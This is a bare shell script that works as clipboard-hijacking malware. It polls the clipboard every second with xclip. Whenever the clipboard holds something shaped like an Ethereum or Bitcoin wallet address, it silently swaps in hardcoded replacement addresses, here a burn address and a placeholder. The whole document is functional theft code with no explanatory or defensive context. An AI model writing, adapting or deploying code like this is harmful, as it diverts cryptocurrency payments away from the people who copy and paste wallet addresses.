#!/bin/sh
ETH=0x000000000000000000000000000000000000dEaD
BTC=bc1qexampleexampleexampleexampleexample0
while :; do
  c=$(xclip -selection clipboard -o 2>/dev/null)
  case "$c" in
    0x????????????????????????????????????????) [ "$c" != "$ETH" ] && printf %s "$ETH" | xclip -selection clipboard ;;
    bc1q*|1*|3*) if printf %s "$c" | grep -Eq '^(bc1q[a-z0-9]{38,58}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$'; then printf %s "$BTC" | xclip -selection clipboard; fi ;;
  esac
  sleep 1
done
